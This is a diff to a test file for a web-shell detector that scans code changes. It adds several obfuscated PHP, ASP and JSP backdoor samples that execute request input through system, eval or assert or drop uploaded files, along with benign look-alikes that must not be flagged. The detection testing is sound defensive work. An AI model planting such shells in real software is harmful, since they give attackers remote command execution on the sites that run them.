@@ -14,7 +14,8 @@ from pathlib import Path
 import pytest
 
 from gitguard.detect import Side, critical_reasons
-from gitguard.detect.php import analyse, tokenize
+from gitguard.detect.common import _Doc
+from gitguard.detect.php import analyse, tokenize, worth
 from gitguard.detect.rules import reason_codes
 from gitguard.model import Change, Kind, Reason
 from gitguard.report.reasons import REASONS
@@ -146,6 +147,39 @@ SHELLS = [
     ("indoxploit", "<?php echo '<title>IndoXploit Shell</title>';", "webshell_marker"),
     # other forms
     ("gif-polyglot", b"GIF89a;\n<?php echo 'ok'; ?>", "image_polyglot"),
+    # callables kept in arrays, callbacks into the file's own functions and methods
+    ("array-element-callable", "<?php $peta = array('jalan' => 'assert');\n"
+     "$peta['jalan']($_POST['isi']);", "code_from_request"),
+    ("element-assigned-callable", "<?php $t = array(); $t['x'] = 'system';\n"
+     "$t['x']($_GET['perintah']);", "shell_from_request"),
+    ("array-map-method", "<?php class Jalan { function lari($x) { return assert($x); } }\n"
+     "array_map(array(new Jalan, 'lari'), array($_POST['x']));", "code_from_request"),
+    ("array-map-short-method", "<?php class Alat { public function pakai($p) { system($p); } }\n"
+     "$o = new Alat(); array_map([$o, 'pakai'], [$_GET['p']]);", "shell_from_request"),
+    ("string-callback-function", "<?php function olah($s) { eval($s); }\n"
+     "array_walk($_COOKIE, 'olah');", "code_from_request"),
+    ("ob-start-closure", "<?php $kode = '';\n"
+     "ob_start(function ($isi) { global $kode; $kode = $isi; return ''; });\n"
+     "echo $_POST['k']; ob_end_flush(); assert($kode);", "code_from_request"),
+    ("ob-start-named", "<?php function tangkap($isi) { eval($isi); return ''; }\n"
+     "ob_start('tangkap'); echo $_REQUEST['k']; ob_end_flush();", "code_from_request"),
+    ("diff-ukey-explode", "<?php $bagian = explode('-', 'x-sys-tem-y');\n"
+     "array_diff_ukey(array($_GET['c'] => 1), array(1), $bagian[1] . $bagian[2]);",
+     "callback_exec"),
+    ("str-split-reversed", "<?php $h = str_split('metsys');\n"
+     "$f = implode('', array_reverse($h)); $f($_POST['c']);", "shell_from_request"),
+    ("xor-key-callback", "<?php $kunci = substr(__FILE__, -6, 2);\n"
+     "array_intersect_uassoc(array($_REQUEST['p'] => ''), array(1), pack('H*', '1d0b') ^ $kunci);",
+     "code_from_request"),
+    ("file-name-callable", "<?php $nama = basename(__FILE__, '.php');\n$nama($_POST['p']);",
+     "code_from_request"),
+    # register_globals shells: variables the file never assigns come from the request
+    ("register-globals-upload", "<?php\nmove_uploaded_file($berkas, 'tema.php');",
+     "file_dropper"),
+    ("register-globals-command", "<?php\nif ($jalankan) { system(\"$perintah 2>&1\"); }",
+     "shell_from_request"),
+    ("register-globals-mailer", "<?php\nif ($kirim) { mail($kepada, $judul, $pesan, "
+     "\"From: $dari\"); }", "mailer"),
 ]  # fmt: skip
 
 
@@ -193,12 +227,31 @@ def test_other_php_extensions(ext: str) -> None:
          " %>", "shell_from_request"),
         ("app/y.aspx", '<%@ Page Language="Jscript" %><% eval(Request.Item["z"], "unsafe"); %>',
          "code_from_request"),
+        ("app/balik.asp", '<% k = Request.Form("k")\n'
+         "Function Balik(s): Balik = StrReverse(s): End Function\nExecute(Balik(k)) %>",
+         "code_from_request"),
+        ("app/unggah.asp", '<% Set fs = Server.CreateObject("Scripting.FileSystemObject")\n'
+         'Set f = fs.CreateTextFile(Server.MapPath(Request.Form("nama")), True)\n'
+         'f.Write Request.Form("isi") %>', "file_dropper"),
+        ("app/jauh.jsp", '<% String c = request.getParameter("c");\n' + "// catatan\n" * 80
+         + "Process p = Runtime.getRuntime().exec(c); %>", "shell_from_request"),
     ],
 )  # fmt: skip
 def test_jsp_and_asp_shells(path: str, sample: str, code: str) -> None:
     old = side(b"<% ' disetujui %>")
     reasons = critical_reasons(path, Change.MODIFIED, old, side(sample.encode()))
     assert code in codes(reasons), reasons
+
+
+def test_asp_pages_that_only_read_the_request() -> None:
+    page = (
+        '<% Execute("Dim hitung") : nama = Request.Form("nama")\n'
+        "Response.Write Server.HTMLEncode(nama)\n"
+        'Set fs = Server.CreateObject("Scripting.FileSystemObject")\n'
+        'Set log = fs.CreateTextFile(Server.MapPath("log/kunjungan.txt"), True) %>'
+    )
+    old = side(b"<% ' disetujui %>")
+    assert critical_reasons("app/tamu.asp", Change.MODIFIED, old, side(page.encode())) == []
 
 
 @pytest.mark.parametrize(
@@ -213,13 +266,21 @@ def test_auto_prepend_file(name: str, content: str) -> None:
     assert "config_prepend" in codes(reasons)
 
 
-def test_appended_to_a_real_file() -> None:
+@pytest.mark.parametrize(
+    ("sample", "code"),
+    [
+        (b"\n?>\n<?php $k = \"~+d()\" ^ \"!{+{}\"; ${$k}['x']($_POST['y']); ?>\n",
+         "code_from_request"),
+        # The host names neither variable: after its `?>`, a block of its own reads them unset.
+        (b'\n?>\n<?php if ($jalankan) { system("$perintah 2>&1"); } ?>\n', "shell_from_request"),
+    ],
+)  # fmt: skip
+def test_appended_to_a_real_file(sample: bytes, code: str) -> None:
     host = (WORDPRESS / "wp-includes" / "class-wp-role.php").read_bytes()
-    sample = b"\n?>\n<?php $k = \"~+d()\" ^ \"!{+{}\"; ${$k}['x']($_POST['y']); ?>\n"
     reasons = critical_reasons(
         "wp-includes/class-wp-role.php", Change.MODIFIED, side(host), side(host + sample)
     )
-    assert "code_from_request" in codes(reasons)
+    assert code in codes(reasons)
 
 
 # --- benign look-alikes: none of these may be critical --------------------------------------
@@ -307,6 +368,30 @@ mail('admin@sukamajukab.go.id', 'Pesan baru', $_POST['pesan']);
         for i in range(60)
     ) + "\n",
     "embedded-image": "<?php $logo = '" + PNG_B64 + "';\n",
+    "page-cache": """<?php
+function simpan_cache($html) { file_put_contents(__DIR__ . '/cache/beranda.html', $html); return $html; }
+ob_start('simpan_cache');
+ob_start(function ($isi) { return str_replace('  ', ' ', $isi); });
+""",  # noqa: E501
+    "method-callbacks": """<?php
+class Format { public function bersih($s) { return trim(strip_tags($s)); } }
+$data = array_map(array(new Format, 'bersih'), $_POST);
+usort($baris, [$this, 'bandingkan']);
+$warna = explode(',', 'merah,hijau,biru'); echo $warna[1];
+$fungsi = array('judul' => 'ucfirst'); echo $fungsi['judul']($_GET['q']);
+""",
+    "hmac": """<?php
+function hmac($kunci, $pesan) {
+    $ipad = str_repeat(chr(0x36), 64) ^ str_pad($kunci, 64, chr(0));
+    return md5($ipad . $pesan);
+}
+echo hmac($_GET['k'], 'x');
+""",
+    "file-name-loader": """<?php
+$dasar = basename(__FILE__, '.php');
+require __DIR__ . '/modul/' . $dasar . '-fungsi.php';
+call_user_func($dasar . '_init');
+""",
 }  # fmt: skip
 
 
@@ -322,6 +407,28 @@ def test_wordpress_core_sample_is_not_critical() -> None:
     for path in files[::25]:
         reasons = modified(path.read_bytes())
         assert reasons == [], (path, reasons)
+
+
+@pytest.mark.parametrize(
+    ("code", "needed"),
+    [
+        (b"<?php $total = $a + $b; echo htmlspecialchars($judul);", False),
+        (b"<?php /* catatan */ $x = array('a' => 1); return $x;", False),
+        (b"<?php $f = 'sys' . 'tem'; $f /* jeda */ ('id');", True),
+        (b"<?php ('sys' . 'tem')('id');", True),
+        (b"<?php \"\\x73ystem\"('id');", True),
+        (b"<?php $a['x']($_POST['y']);", True),
+        (b"<?php $o = new $kelas($_GET['a']);", True),
+        (b"<?php echo `ls $dir`;", True),
+        (b"<?php array_map($f, $_POST);", True),
+        (b"<?php include $halaman;", True),
+    ],
+)
+def test_prefilter_spares_only_code_that_calls_nothing(code: bytes, needed: bool) -> None:
+    doc = _Doc("x.php", code)
+    assert worth(doc.words, doc.lower) is needed
+    if not needed:
+        assert analyse(code) == []  # what the prefilter spares, the reader finds nothing in
 
 
 def test_tokens_and_folding() -> None:
@@ -342,3 +449,6 @@ def test_bounded_on_hostile_input() -> None:
     analyse(nested.encode())  # no recursion error, no blow-up
     bomb = f"<?php eval(gzinflate(base64_decode('{gz_b64('/*' + ' ' * (4 << 20) + '*/')}')));"
     assert {f.code for f in analyse(bomb.encode())} == {"code_from_decoded"}
+    # A token no statement starts with, inside a closure, once made the reader loop forever.
+    stray = b"<?php $f = function () { => ; };\nsystem($_GET['c']);"
+    assert {f.code for f in analyse(stray)} == {"shell_from_request"}
